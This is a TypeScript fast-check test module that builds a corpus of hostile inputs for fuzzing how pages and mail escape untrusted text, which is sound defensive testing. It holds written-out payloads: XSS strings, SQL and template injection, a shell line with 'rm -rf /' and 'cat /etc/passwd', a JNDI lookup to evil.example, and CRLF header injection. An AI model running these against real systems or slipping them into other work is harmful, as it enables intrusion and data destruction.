import * as fc from 'fast-check';

const esc = '\u001b';

/** Every element and attribute that they would add must be missing from every page and mail. */
const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  `'><svg/onload=alert(3)>`,
  '</title></style></textarea></p></li></pre><iframe src="javascript:alert(4)">',
  '<!--><script>alert(5)</script-->',
  '&lt;b&gt;&#60;i&#62;&amp;lt;u&amp;gt;',
  '" onmouseover="alert(6)" style="x:expression(7)',
  '<a href="javascript:alert(8)">x</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(9)>',
  '<!doctype html><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '`onload=alert(10)//',
  '<\u0000script>alert(11)</script>',
  '\uff1cscript\uff1ealert(12)\uff1c/script\uff1e',
  ']]><![CDATA[<x onclick=1>',
];

const injections: readonly string[] = [
  "' OR 1=1; DROP TABLE pages; --",
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% import os %} {{constructor.constructor("return process")()}}',
  '$(reboot) `id` ; rm -rf / | cat /etc/passwd && true',
  '../../../../etc/passwd\u0000.png',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd %c0%ae %u002e %zz %',
  'x\r\nBcc: victim@example.com\r\n\r\nHi',
  'x\nSet-Cookie: a=b\nLocation: //evil.example',
  'x\u2028y\u2029z\u0085w\u000bv\u000cu',
  '${jndi:ldap://evil.example/a}',
  '(a+)+$ ^(([a-z])+.)+[A-Z]([a-z])+$ /(x+x+)+y/',
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
  '*?[]!"/(a|a)*b/',
  '/[/',
  '!!*',
  '*'.repeat(60),
  'FLUSHALL\r\n*1\r\n$8\r\nFLUSHALL\r\n',
  '\\u0000\\ud800\\',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '0x1F',
  '2013-04-18T23:46:00Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-19T00:00:00Z',
  '0000-00-00 00:00:00',
  '99999999999w',
  'Europe/Amsterdam',
  'call +491701234567 or write victim@example.com?token=abcdef',
  'https://user:hunter2@evil.example/?token=stolen#x',
  'javascript:alert(1)',
  'file:///etc/passwd',
];

const scripts: readonly string[] = [
  `${esc}[31mred${esc}[0m${esc}]0;title\u0007${esc}]8;;http://evil.example${esc}\\x`,
  '\u009b2J\u0090q\u009c',
  'abc\u202edcba\u2066x\u2069\u200f\u061c',
  'zero\u200bwidth\u200d\u2060\ufeffjoiner\u00ad',
  '\u0000',
  'a\u0000b\u0001c\u007fd\u009fe',
  '\ud800',
  '\udc00\ud800',
  'half\ud83d',
  '\ud83d\udd25\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f1e9}\u{1f1ea}',
  `Z${'\u0301\u0316'.repeat(20)}`,
  '\ufdfa\ufdfa\ufdfa',
  '\u{10ffff}\u{e0001}\ufffe\uffff',
  '\u1e9e\u0130\u0131\u017f\u212a',
  '\u00e4 and a\u0308',
  'db1!https',
  'icinga/db1!https',
  'service:parsoid',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '',
  ' ',
  '\t\r\n',
  '\u00a0\u3000',
  '.',
  '..',
  ':',
];

/** Texts that have broken something somewhere. */
const hostileTexts: readonly string[] = [...markup, ...injections, ...scripts];

const lengths = [300, 5_000, 20_000, 100_000] as const;
const fromCorpus = fc.constantFrom(...hostileTexts);
const anyUnits = fc.array(fc.nat(0xffff), { maxLength: 12 }).map((units) => String.fromCharCode(...units));
const long = fc
  .tuple(
    fc.constantFrom('a', ' ', '0', 'a@', '\u0301\u0316', '\ud83d\udd25', '&amp;', '<b>', esc),
    fc.constantFrom(...lengths),
  )
  .map(([part, length]) => part.repeat(length / part.length));

/** A text of unknown origin, half of them out of the corpus; one in a hundred and fifty is long, up to 100 kB. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 80, arbitrary: fromCorpus },
  { weight: 30, arbitrary: fc.tuple(fromCorpus, fromCorpus).map(([a, b]) => a + b) },
  { weight: 20, arbitrary: anyUnits },
  { weight: 20, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: long },
);
